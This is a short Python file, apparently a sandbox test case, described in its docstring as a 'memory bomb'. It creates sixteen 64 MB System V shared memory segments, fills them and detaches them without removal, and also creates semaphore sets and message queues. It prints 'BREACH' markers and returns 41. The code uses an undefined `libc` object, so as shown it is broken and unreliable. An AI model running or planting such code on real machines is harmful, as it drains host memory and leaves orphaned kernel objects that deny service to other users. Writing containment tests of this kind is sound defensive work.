"""Threat: memory bomb, shared memory left behind.
System V shared memory, queues and semaphores, detached and never removed."""

import ctypes

libc.shmat.restype = ctypes.c_void_p

def task_func():
    for key in range(0x5EED0000, 0x5EED0010):
        shared = libc.shmget(key, 64 << 20, 0o1666)
        if shared >= 0:
            where = libc.shmat(shared, None, 0)
            ctypes.memset(where, 1, 64 << 20)
            libc.shmdt(ctypes.c_void_p(where))
            print("BREACH: memory that belongs to no process")
        for name, arguments in (("semget", (key, 5, 0o1666)), ("msgget", (key, 0o1666))):
            if getattr(libc, name)(*arguments) >= 0:
                print("BREACH:", name)
    print("tried")
    return 41
